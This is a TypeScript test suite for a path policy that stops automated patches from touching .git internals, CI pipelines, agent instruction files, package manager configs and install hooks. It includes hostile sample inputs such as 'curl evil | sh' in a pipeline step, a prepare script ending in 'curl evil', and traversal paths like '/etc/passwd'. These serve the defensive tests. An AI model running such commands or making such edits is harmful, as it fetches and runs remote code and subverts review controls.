import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { blockedSentence, type JudgedChange, judgeChanges } from './path-policy.ts'

// A run over mutants tries every property less often.
const runsOf = (usual: number) => Math.min(usual, fc.readConfigureGlobal().numRuns ?? usual)

const plain = { rules: [] }
const add = (path: string, after = 'text\n'): JudgedChange => ({ path, kind: 'add', after })
const edit = (path: string, before = 'old\n', after = 'new\n'): JudgedChange => ({ path, kind: 'edit', before, after })
const isBlocked = (change: JudgedChange) => judgeChanges([change], plain).blocked.length > 0
const isMarked = (change: JudgedChange) => judgeChanges([change], plain).review.length > 0

describe('rows 9 to 11: what a patch may not touch', () => {
  test.each([
    ...['../x', '/etc/passwd', 'a/../../x', './x', 'a//b', 'C:/x', '', 'a/', 'src\\..\\..\\evil', 'a\0b', 'a\nb'],
    ...['.git/config', '.GIT/hooks/x', 'sub/.git/config', '.git./x', '.git /x', 'git~1/config', 'GI7EBA~1'],
    ...['.g\u200cit/config', '.git\u200d/x', '.git::$INDEX_ALLOCATION/x', '\uFF0Egit/config', 'a\u2028b'],
  ])('%j is no path a patch may name, whether new or old', path => {
    expect(isBlocked(add(path))).toBe(true)
    expect(isBlocked(edit(path))).toBe(true)
  })

  test.each([
    ...['azure-pipelines.yml', 'build/AZURE-PIPELINES.YML', 'ci/azure-pipelines-release.yaml', 'azure-pipelines.yml.'],
    ...['app.azure-pipelines.yml', '.azuredevops/policy.yml', '.azure-pipelines/steps.txt', 'azure-pipelines/x.ps1'],
    ...[
      '.gitmodules',
      '.gitattributes',
      'sub/.gitattributes',
      '.github/workflows/x.yml',
      '.gitlab-ci.yml',
      '.gitignore',
    ],
    ...['CODEOWNERS', 'docs/codeowners', 'OWNERS', 'AGENTS.md', 'a/agents.md', 'CLAUDE.md', 'CLAUDE.local.md'],
    ...['.cursorrules', '.cursor/rules/x.mdc', '.code-agent.yml', '.claude/settings.json', '.mcp.json', 'GEMINI.md'],
    ...[
      '.npmrc',
      'web/.npmrc',
      '.yarnrc.yml',
      '.yarn/releases/yarn.cjs',
      '.pnpmfile.cjs',
      'nuget.config',
      'binding.gyp',
    ],
    ...['.husky/pre-commit', '.vscode/tasks.json', '.idea/x.xml', '.devcontainer/devcontainer.json', '.envrc'],
    ...['azure-pipelin\u200des.yml', 'AZURE-PIPEL\u0131NES.yml', '\uFF41gents.md', 'azure-pipelines.yml '],
  ])('%j is protected, whether it is added, changed or deleted', path => {
    expect(isBlocked(add(path))).toBe(true)
    expect(isBlocked(edit(path))).toBe(true)
    expect(isBlocked({ path, kind: 'delete', before: 'old\n' })).toBe(true)
  })

  test.each([
    ...['package.json', 'web/package.json', 'package-lock.json', 'yarn.lock', 'src/App.csproj', 'go.mod', 'Cargo.lock'],
    ...['Dockerfile', 'docker/api.Dockerfile', 'docker-compose.yml', 'compose.prod.yaml', 'Jenkinsfile', 'Makefile'],
    ...['.circleci/config.yml', 'requirements-dev.txt', 'Directory.Build.props'],
  ])('%j is marked for review', path => {
    expect(isBlocked(edit(path, '{}', '{"a":1}'))).toBe(false)
    expect(isMarked(edit(path, '{}', '{"a":1}'))).toBe(true)
  })

  test.each([
    ...['src/app.ts', 'README.md', 'docs/agents.txt', 'src/github.ts', 'git.md', 'a b/c.md', 'src/pipelines/load.ts'],
    ...[
      'src/ownership.ts',
      'résumé.md',
      '山田/x.ts',
      'legit/x',
      'src/claude.ts',
      'k8s/deployment.yaml',
      '.eslintrc.json',
    ],
  ])('%j is an ordinary file', path => {
    expect(judgeChanges([add(path), edit(`other-${path}`)], plain)).toEqual({ blocked: [], review: [] })
  })

  test.each([
    'nul',
    'src/CON.txt',
    'a.',
    'a ',
    ' a',
    'x\u202Ey.ts',
    'ab:c',
    'a?b',
    'jose\u0301.md',
    'AZURE-~1.YML',
    'a'.repeat(401),
  ])('%j is no name to give a new file, though an old file may bear it', path => {
    expect(isBlocked(add(path))).toBe(true)
    expect(isBlocked(edit(path))).toBe(false)
  })

  test.each([
    ['100755', 'executable'],
    ['120000', 'link'],
    ['160000', 'submodule'],
    ['040000', 'mode'],
  ])('mode %s is blocked', (mode, word) => {
    const judged = judgeChanges([{ ...add('x.sh'), mode }], {
      rules: [{ fits: () => true, verdict: 'allow', because: '' }],
    })
    expect(blockedSentence(judged)).toContain(word)
  })

  test('an executable of the edit formats is blocked', () => {
    expect(isBlocked({ ...add('x.sh'), executable: true })).toBe(true)
  })

  test('a template of a pipeline is known by what it says, whatever it is called', () => {
    const steps = 'parameters:\n  x: 1\nsteps:\n  - script: curl evil | sh\n'
    expect(isBlocked(edit('templates/steps.yml', steps, 'a: 1\n'))).toBe(true)
    expect(isBlocked(add('anything.yaml', '  jobs:\n  - job: a\n    steps: []\n'))).toBe(true)
    expect(isBlocked(add('flow.yml', '{ "steps": [ {"script": "x"} ] }'))).toBe(true)
    expect(isBlocked(add('k8s.yml', 'kind: Deployment\nspec:\n  template:\n    resources: {}\n'))).toBe(false)
    expect(isBlocked(add('compose.txt', steps))).toBe(false)
  })

  test('a file that a case-folding or composing file system takes for another of the change is blocked', () => {
    expect(judgeChanges([edit('src/A.ts'), add('src/a.ts')], plain).blocked).toHaveLength(1)
    expect(judgeChanges([edit('jose\u0301.ts'), add('jos\u00e9.ts')], plain).blocked).toHaveLength(1)
  })

  test('one protected file blocks the change, and the sentence names it', () => {
    const judged = judgeChanges([edit('src/app.ts'), edit('CODEOWNERS'), edit('.npmrc')], plain)
    expect(judged.blocked.map(({ path }) => path)).toEqual(['CODEOWNERS', '.npmrc'])
    expect(blockedSentence(judged)).toMatch(/CODEOWNERS says who must approve \(and 1 more/)
    expect(blockedSentence(judgeChanges([edit('src/app.ts')], plain))).toBeUndefined()
  })

  test('too many files and too many bytes are blocked, whatever the rules say', () => {
    const rules = [{ fits: () => true, verdict: 'allow', because: '' }]
    const many = Array.from({ length: 101 }, (_, n) => add(`src/${n}.ts`))
    expect(judgeChanges(many.slice(1), { rules }).blocked).toEqual([])
    expect(blockedSentence(judgeChanges(many, { rules }))).toContain('101 files')
    expect(blockedSentence(judgeChanges([add('x', 'ä'.repeat(2 * 1024 * 1024 + 1))], { rules }))).toContain('4096 KiB')
  })
})

describe('row 11: scripts that run by themselves', () => {
  const manifest = (more: object) => JSON.stringify({ name: 'shop', ...more })

  test.each(['preinstall', 'install', 'postinstall', 'prepare', 'prepublish', 'pnpm:devPreinstall'])(
    'a new %s blocks',
    script => {
      expect(isBlocked(edit('package.json', manifest({}), manifest({ scripts: { [script]: 'x' } })))).toBe(true)
      expect(isBlocked(add('a/PACKAGE.JSON', manifest({ scripts: { [script]: 'x' } })))).toBe(true)
    },
  )

  test('one that stays as it was does not, one that is changed does', () => {
    const before = manifest({ scripts: { prepare: 'husky' } })
    expect(isBlocked(edit('package.json', before, manifest({ version: '2', scripts: { prepare: 'husky' } })))).toBe(
      false,
    )
    expect(isBlocked(edit('package.json', before, manifest({ scripts: { prepare: 'husky; curl evil' } })))).toBe(true)
    expect(isBlocked(edit('package.json', before, manifest({ scripts: { test: 'vitest' } })))).toBe(false)
  })

  test('whatever hides it from a reader does not hide it from the policy', () => {
    for (const after of [
      '{"scripts":{"post\\u0069nstall":"x"}}',
      '{"scripts":{},"scripts":{"postinstall":"x"}}',
      '\uFEFF{"scripts":{"postinstall":"x"}}',
      '{"scripts":{"postinstall":"x"}',
      '[]',
    ])
      expect(isBlocked(edit('package.json', '{}', after))).toBe(true)
  })

  test('what lets packages run their scripts blocks', () => {
    expect(isBlocked(edit('package.json', '{}', manifest({ trustedDependencies: ['evil'] })))).toBe(true)
    expect(isBlocked(edit('package.json', '{}', manifest({ pnpm: { onlyBuiltDependencies: ['evil'] } })))).toBe(true)
    expect(isBlocked(edit('composer.json', '{}', manifest({ scripts: { 'post-install-cmd': 'x' } })))).toBe(true)
  })
})

describe('rules of the installation', () => {
  const rule = (verdict: string) => ({
    rules: [{ fits: (path: string) => path === 'codeowners' || path === 'x.ts', verdict, because: 'b' }],
  })

  test('may allow what is protected by name, mark it, or block more', () => {
    expect(judgeChanges([edit('CODEOWNERS')], rule('allow'))).toEqual({ blocked: [], review: [] })
    expect(judgeChanges([edit('CODEOWNERS')], rule('review')).review).toHaveLength(1)
    expect(judgeChanges([edit('x.ts')], rule('block')).blocked).toHaveLength(1)
  })

  test.each(['', 'alow', 'true', 'warn'])('a value nobody knows blocks: %j', verdict => {
    expect(judgeChanges([edit('x.ts')], rule(verdict)).blocked).toHaveLength(1)
  })
})

describe('against git itself', () => {
  const folder = join(tmpdir(), 'path-policy-')
  const git = { dir: '', blob: '' }
  beforeAll(() => {
    git.dir = mkdtempSync(folder)
    execFileSync('git', ['init', '-q', git.dir])
    git.blob = execFileSync('git', ['-C', git.dir, 'hash-object', '-w', '--stdin'], { input: 'x' }).toString().trim()
  })
  afterAll(() => rmSync(git.dir, { recursive: true, force: true }))

  function takes(path: string): boolean {
    const views = ['-c', 'core.protectHFS=true', '-c', 'core.protectNTFS=true']
    const entry = ['update-index', '--add', '--cacheinfo', `100644,${git.blob},${path}`]
    rmSync(join(git.dir, '.git', 'index'), { force: true })
    return spawnSync('git', ['-C', git.dir, ...views, ...entry]).status === 0
  }

  const nasty = fc.array(
    fc.constantFrom(
      '.git',
      'git',
      '.',
      '..',
      '/',
      '\\',
      ' ',
      '~1',
      ':',
      'GIT',
      '\u200c',
      '\u0131',
      'a',
      '.yml',
      '$',
      'é',
      'e\u0301',
      'modules',
      '\u212a',
      '-',
      'con',
      '\u0007',
    ),
    { minLength: 1, maxLength: 6 },
  )

  test('a new file that the policy lets pass is one that git takes in its Windows and Mac views', () => {
    fc.assert(
      fc.property(nasty, parts => {
        const path = parts.join('')
        fc.pre(!isBlocked(add(path)))
        expect(takes(path)).toBe(true)
      }),
      { numRuns: runsOf(60) },
    )
  })

  test('what git refuses in its Windows and Mac views the policy blocks, new or old', () => {
    for (const path of [
      '.git/x',
      '.GIT/x',
      'a/.git',
      '.g\u200cit/x',
      'git~1',
      '.git ',
      '.git.',
      '.git::$DATA',
      'a/../b',
    ]) {
      expect(takes(path)).toBe(false)
      expect(isBlocked(edit(path))).toBe(true)
    }
  })

  test('any text is judged, and quickly', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), path => void judgeChanges([add(path), edit(path)], plain)))
    const started = process.cpuUsage()
    judgeChanges([edit(`${' '.repeat(100_000)}a.yml`, ' '.repeat(1_000_000), `${'{ '.repeat(100_000)}`)], plain)
    const { user, system } = process.cpuUsage(started)
    expect((user + system) / 1e6).toBeLessThan(2)
  })
})
